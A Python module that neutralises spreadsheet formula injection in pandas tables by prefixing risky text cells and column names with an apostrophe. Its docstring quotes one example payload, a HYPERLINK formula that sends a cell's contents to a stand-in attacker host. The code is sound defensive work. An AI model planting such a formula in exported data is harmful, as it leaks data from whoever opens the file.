"""Tables written for spreadsheets (CSV, XLSX): neutralise formula injection.

A spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` as a formula (and
strips a leading tab or carriage return before looking), so a text value such as
`=HYPERLINK("http://evil/?"&A1)` coming from a survey export would execute when an
analyst opens our CSV. Every text cell starting with one of these characters gets a
leading apostrophe (OWASP's advice): the spreadsheet shows it as text. Numbers are
left alone: a negative number is not a formula. Apply `neutralise` to a frame right
before writing it to any CSV or XLSX file."""

from __future__ import annotations

import pandas as pd

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def neutralise_cell(value: object) -> object:
    """The cell as a spreadsheet should show it: text that a spreadsheet would run as a
    formula is prefixed with an apostrophe; anything else is returned unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


def neutralise(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of `frame` with every text cell neutralised (numeric columns untouched).
    Column names are cells too and get the same treatment."""
    out = frame.rename(columns=neutralise_cell)
    for column in out.columns:
        if not pd.api.types.is_numeric_dtype(out[column]):  # bool counts as numeric
            out[column] = out[column].map(neutralise_cell)
    return out
